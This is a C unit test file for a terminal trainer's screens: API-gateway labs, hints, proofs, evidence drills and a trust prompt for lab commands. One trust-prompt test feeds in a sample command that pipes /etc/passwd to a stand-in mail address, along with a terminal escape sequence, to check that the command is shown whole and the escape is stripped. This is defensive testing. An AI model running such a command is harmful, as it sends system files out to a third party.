/* t_lab.c -- pictures of labs, proofs and evidence drills: what is asked of the learner is always
 * in sight, and every sign has its word. */
#include "pagetext.h"
#include "tui/drawlab.h"

#include <locale.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

struct scene {
	struct lab lab;
	struct lab_view view;
	struct gw_trace trace;
	struct frame frame;
	struct canvas canvas;
	struct arena arena;
	bool moving;
	struct lab_picture picture;
	struct lab_notes notes;
};

static int set_up(void **state)
{
	struct scene *s = xcalloc(1, sizeof(*s));
	struct diags d = {0};
	assert_true(lab_read_file(&s->lab, "tests/data/labs/keys.yaml", &d));
	diags_clear(&d);
	s->view = (struct lab_view){.lab = &s->lab, .total = (int)s->lab.goal_count};
	s->trace = (struct gw_trace){.kind = GW_TRACE_REQUEST,
				     .method = "GET",
				     .path = "/prod/stock",
				     .api = "shop",
				     .stage = "prod",
				     .resource = "/stock",
				     .status = 403,
				     .error = "INVALID_API_KEY",
				     .total_us = 400,
				     .answered_body = "{\"message\":\"Forbidden\"}"};
	s->trace.rows[GW_STEP_ROUTE] = (struct gw_row){GW_PASSED, 20, "matched GET /stock", NULL};
	s->trace.rows[GW_STEP_API_KEY] = (struct gw_row){GW_REFUSED, 30, "there is none", NULL};
	s->picture =
		(struct lab_picture){.view = &s->view, .notes = &s->notes, .moving = &s->moving};
	*state = s;
	return 0;
}

static int tear_down(void **state)
{
	struct scene *s = *state;
	lab_clear(&s->lab);
	lab_notes_clear(&s->notes);
	canvas_clear(&s->canvas);
	arena_clear(&s->arena);
	free(s);
	return 0;
}

static void fresh(struct scene *s, int rows, int cols, bool ascii)
{
	frame_measure(&s->frame, (struct screen_size){rows, cols});
	canvas_reset(&s->canvas, &s->frame, false, ascii);
}

static const char *body(struct scene *s)
{
	return page_text(&s->arena, &s->canvas.body);
}

static const char *foot(struct scene *s)
{
	return page_text(&s->arena, &s->canvas.foot);
}

#define shows(text, part)                                                    \
	do {                                                                 \
		if (!strstr(text, part))                                     \
			fail_msg("\"%s\" is not shown in:\n%s", part, text); \
	} while (0)

/* ---- labs ---------------------------------------------------------------------------- */

static void the_story_comes_with_its_goals(void **state)
{
	struct scene *s = *state;
	fresh(s, 24, 80, false);
	lab_story_draw(&s->canvas, &s->picture);
	shows(body(s), "A partner rings: every call is refused.");
	shows(body(s), "○ open    A call without a key is refused before anything is called.");
	shows(body(s), "It takes about 10 minutes.");
}

static void before_the_first_request_it_says_what_to_do(void **state)
{
	struct scene *s = *state;
	fresh(s, 24, 80, false);
	lab_work_draw(&s->canvas, &s->picture);
	shows(body(s), "Nothing was sent yet.");
	shows(foot(s), "ready     1 Without a key");
	assert_null(strstr(foot(s), "recent"));
}

static void goals_have_a_word_beside_their_sign(void **state)
{
	struct scene *s = *state;
	s->view.goals[0] = (struct lab_goal_state){.met = true, .fresh = true, .seen = 1};
	s->view.goals[1] = (struct lab_goal_state){.seen = 2};
	s->picture.last = &s->trace;
	lab_notes_status(&s->notes, 200);
	lab_notes_status(&s->notes, 403);
	fresh(s, 24, 80, false);
	lab_work_draw(&s->canvas, &s->picture);
	shows(body(s), "✓ done    A call without a key");
	shows(body(s), "◐ 2 of 3  The partner is stopped");
	shows(body(s), "403");
	shows(body(s), "body      {\"message\":\"Forbidden\"}");
	shows(foot(s), "recent    200  403");
}

static void ascii_says_the_same(void **state)
{
	struct scene *s = *state;
	s->view.goals[0] = (struct lab_goal_state){.met = true};
	s->picture.last = &s->trace;
	lab_notes_status(&s->notes, 0);
	fresh(s, 24, 80, true);
	lab_work_draw(&s->canvas, &s->picture);
	for (const char *p = body(s); *p; p++)
		assert_true((unsigned char)*p < 128);
	for (const char *p = foot(s); *p; p++)
		assert_true((unsigned char)*p < 128);
	shows(body(s), "done    A call without a key");
}

static void the_newest_hint_is_kept_in_sight(void **state)
{
	struct scene *s = *state;
	s->view.hints = 2;
	s->picture.hints_shown = true;
	s->picture.last = &s->trace;
	fresh(s, 18, 60, false);
	lab_work_draw(&s->canvas, &s->picture);
	shows(body(s), "hint 1    Look at the trace.");
	shows(body(s), "hint 2    Which of the stages refused?");
	assert_int_equal(s->canvas.focus_to, (int)s->canvas.body.count - 1);
	s->picture.hints_shown = false;
	fresh(s, 18, 60, false);
	lab_work_draw(&s->canvas, &s->picture);
	shows(body(s), "hints     2 taken; H shows them");
}

static void only_the_last_is_kept(void **state)
{
	struct scene *s = *state;
	char text[24];
	for (int i = 0; i < 100; i++) {
		snprintf(text, sizeof(text), "text %d", i);
		lab_notes_status(&s->notes, 200 + i);
		lab_notes_heard(&s->notes, &(struct rig_heard){.what = RIG_MESSAGE,
							       .as = "alice",
							       .text = {text, strlen(text)}});
	}
	lab_notes_heard(&s->notes,
			&(struct rig_heard){.what = RIG_CLOSED, .as = "bob", .status = 1001});
	s->picture.last = &s->trace;
	fresh(s, 50, 80, false);
	lab_work_draw(&s->canvas, &s->picture);
	shows(foot(s), "298  299\n");
	assert_null(strstr(foot(s), "200"));
	shows(body(s), "alice: text 99\n          bob is closed: 1001");
	assert_null(strstr(body(s), "text 94\n"));
}

static void requests_without_a_digit_are_not_promised_one(void **state)
{
	struct scene *s = *state;
	fresh(s, 50, 200, false);
	lab_work_draw(&s->canvas, &s->picture);
	assert_true(s->lab.request_count > LAB_READY_KEYS);
	assert_null(strstr(foot(s), "10 "));
}

static void small_screens_leave_room_for_the_goals(void **state)
{
	static const struct screen_size sizes[] = {{18, 60}, {12, 40}};
	struct scene *s = *state;
	s->picture.last = &s->trace;
	lab_notes_status(&s->notes, 200);
	for (size_t i = 0; i < ARRAY_LEN(sizes); i++) {
		fresh(s, sizes[i].rows, sizes[i].cols, false);
		lab_work_draw(&s->canvas, &s->picture);
		assert_true((int)(s->canvas.body.count + s->canvas.foot.count) <=
			    s->frame.body_rows);
		shows(body(s), "✗");
		shows(body(s), "API key");
		shows(body(s), "○ open");
	}
}

static void a_problem_of_the_definition_stands_first(void **state)
{
	struct scene *s = *state;
	s->view.problem = "shop.yaml:3:1: unknown key";
	fresh(s, 24, 80, false);
	lab_work_draw(&s->canvas, &s->picture);
	assert_true(str_starts(body(s), "✗ shop.yaml:3:1: unknown key\n"));
}

static void the_end_says_how_and_why(void **state)
{
	struct scene *s = *state;
	s->view.stage = LAB_GIVEN_UP;
	s->picture.met = 1;
	s->view.hints = 1;
	s->view.due_cards = 2;
	s->picture.took_ms = 120000;
	fresh(s, 50, 80, false);
	lab_end_draw(&s->canvas, &s->picture);
	shows(body(s), "✗ Given up after 2 min.  1 of 2 goals met, 1 hint.");
	shows(body(s), "2 cards were brought into your reviews.");
	shows(body(s), "Three limits stand one behind the other.");
	shows(body(s), "Usage plans and API keys");
	shows(body(s), " 1  Without a key");
	shows(body(s), "- burst: 1");
	s->view.stage = LAB_PASSED;
	fresh(s, 50, 80, false);
	lab_end_draw(&s->canvas, &s->picture);
	shows(body(s), "✓ Passed, in 2 min.");
	s->picture.took_ms = 0;
	fresh(s, 50, 80, false);
	lab_end_draw(&s->canvas, &s->picture);
	shows(body(s), "✓ Passed.");
}

/* ---- trust --------------------------------------------------------------------------- */

static void only_commands_are_asked_about(void **state)
{
	struct diags d = {0};
	(void)state;
	diag_fail(&d, "serve-listen", "the port is taken");
	assert_null(trust_asked(&d));
	assert_int_equal(d.errors, 1);
	diag_fail(&d, "lab-commands", "catalogue: sh catalogue.sh");
	char *text = trust_asked(&d);
	assert_string_equal(text, "catalogue: sh catalogue.sh\n");
	assert_int_equal(d.errors, 0);
	free(text);
}

static void commands_are_shown_whole(void **state)
{
	struct scene *s = *state;
	fresh(s, 12, 40, false);
	trust_draw(&s->canvas, "lab",
		   "catalogue: sh -c 'cat /etc/passwd | mail somebody@example.test'\n"
		   "other: ./run \x1b[2J\n");
	shows(body(s), "somebody@e");
	assert_null(strstr(body(s), "\x1b"));
	shows(body(s), "May they run?");
}

/* ---- proofs -------------------------------------------------------------------------- */

static struct prove_picture proof_of(struct scene *s)
{
	return (struct prove_picture){
		.lab = &s->lab, .request = &s->lab.requests[2], .met = true, .trace = &s->trace};
}

static void a_proof_says_what_runs_and_what_it_shows(void **state)
{
	struct scene *s = *state;
	struct prove_picture x = proof_of(s);
	fresh(s, 24, 80, false);
	prove_draw(&s->canvas, &x);
	shows(body(s), "first     Without a key");
	shows(body(s), "✓ The key is known, but in no plan of this stage.");
	shows(body(s), "there is none");
	x.running = true;
	x.trace = NULL;
	fresh(s, 24, 80, false);
	prove_draw(&s->canvas, &x);
	assert_null(strstr(body(s), "✓"));
}

static void a_proof_that_fails_says_so(void **state)
{
	struct scene *s = *state;
	struct prove_picture x = proof_of(s);
	x.met = false;
	fresh(s, 24, 80, false);
	prove_draw(&s->canvas, &x);
	shows(body(s), "✗ It did not come out as the proof says:");
	x.why = "the port is taken";
	x.trace = NULL;
	fresh(s, 24, 80, false);
	prove_draw(&s->canvas, &x);
	shows(body(s), "✗ the port is taken");
}

/* ---- evidence ------------------------------------------------------------------------ */

static struct evidence_case case_of(const struct shelf_lab *drill)
{
	return (struct evidence_case){
		.seed = 7,
		.drill = drill,
		.options = {GW_STEP_ROUTE, GW_STEP_API_KEY, GW_STEP_THROTTLE, GW_STEP_VALIDATE,
			    GW_STEP_INTEGRATION},
		.option_count = 5,
		.right = 2,
		.log = "{\"requestId\":\"c6af9ac6\",\"ip\":\"127.0.0.1\",\"status\":\"429\","
		       "\"error\":\"Too Many Requests at the very end\"}\nsecond\n",
		.metrics = "Count   4XX\n   12     3\n",
		.trace = "gateway  0.4 ms\n",
		.answer = "throttle refused\n",
		.chosen = -1,
	};
}

/* All of a text without what wrapping put between. */
static const char *joined(struct scene *s, const char *text)
{
	char *out = arena_strdup(&s->arena, text), *to = out;
	for (const char *p = text; *p; p++)
		if (*p != ' ' && *p != '\n')
			*to++ = *p;
	*to = '\0';
	return out;
}

static void long_lines_of_logs_are_whole_or_cut(void **state)
{
	struct scene *s = *state;
	struct shelf_lab drill = {.lab = s->lab};
	struct evidence_case e = case_of(&drill);
	struct evidence_pose pose = {.marks = {.at = -1, .chosen = -1}};
	fresh(s, 18, 60, false);
	drill_draw(&s->canvas, &e, &pose);
	shows(joined(s, body(s)), "\"error\":\"TooManyRequestsattheveryend\"}");
	shows(body(s), "· second");
	for (size_t i = 0; i < s->canvas.body.count; i++)
		assert_true(s->canvas.body.lines[i].cols <= s->canvas.body.width);
	size_t whole = s->canvas.body.count;
	pose.cut = true;
	fresh(s, 18, 60, false);
	drill_draw(&s->canvas, &e, &pose);
	assert_null(strstr(joined(s, body(s)), "attheveryend"));
	assert_true(s->canvas.body.count < whole);
}

static void metrics_that_are_too_wide_are_listed(void **state)
{
	struct scene *s = *state;
	struct shelf_lab drill = {.lab = s->lab};
	struct evidence_case e = case_of(&drill);
	struct evidence_pose pose = {.marks = {.at = -1, .chosen = -1}};
	e.metrics = "                     Count  4XXError  Latency\n"
		    "shop/prod                2         0      0.3\n"
		    "  GET /stock/{id}        2         -      0.4\n";
	fresh(s, 24, 80, false);
	drill_draw(&s->canvas, &e, &pose);
	shows(body(s), "  GET /stock/{id}        2         -      0.4\n");
	fresh(s, 12, 40, false);
	drill_draw(&s->canvas, &e, &pose);
	shows(body(s), "shop/prod\n    Count 2, 4XXError 0, Latency 0.3\n");
	shows(body(s), "  GET /stock/{id}\n    Count 2, 4XXError -, Latency 0.4\n");
}

static void stages_stand_in_columns(void **state)
{
	struct scene *s = *state;
	struct shelf_lab drill = {.lab = s->lab};
	struct evidence_case e = case_of(&drill);
	struct evidence_pose pose = {.marks = {.at = 3, .chosen = 2, .struck = {true}}};
	fresh(s, 24, 80, false);
	drill_draw(&s->canvas, &e, &pose);
	shows(foot(s), "Which stage fails?");
	shows(foot(s), "[-] A  route");
	shows(foot(s), "[■] C  throttling");
	shows(foot(s), "▸ [ ] D");
	assert_true((int)s->canvas.foot.count <= 5);
	fresh(s, 12, 40, false);
	drill_draw(&s->canvas, &e, &pose);
	shows(foot(s), "[ ] E  integration");
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(the_story_comes_with_its_goals, set_up, tear_down),
		cmocka_unit_test_setup_teardown(before_the_first_request_it_says_what_to_do, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(goals_have_a_word_beside_their_sign, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(ascii_says_the_same, set_up, tear_down),
		cmocka_unit_test_setup_teardown(the_newest_hint_is_kept_in_sight, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(only_the_last_is_kept, set_up, tear_down),
		cmocka_unit_test_setup_teardown(requests_without_a_digit_are_not_promised_one,
						set_up, tear_down),
		cmocka_unit_test_setup_teardown(small_screens_leave_room_for_the_goals, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(a_problem_of_the_definition_stands_first, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(the_end_says_how_and_why, set_up, tear_down),
		cmocka_unit_test(only_commands_are_asked_about),
		cmocka_unit_test_setup_teardown(commands_are_shown_whole, set_up, tear_down),
		cmocka_unit_test_setup_teardown(a_proof_says_what_runs_and_what_it_shows, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(a_proof_that_fails_says_so, set_up, tear_down),
		cmocka_unit_test_setup_teardown(long_lines_of_logs_are_whole_or_cut, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(metrics_that_are_too_wide_are_listed, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(stages_stand_in_columns, set_up, tear_down),
	};
	setlocale(LC_CTYPE, "C.UTF-8");
	return cmocka_run_group_tests(tests, NULL, NULL);
}
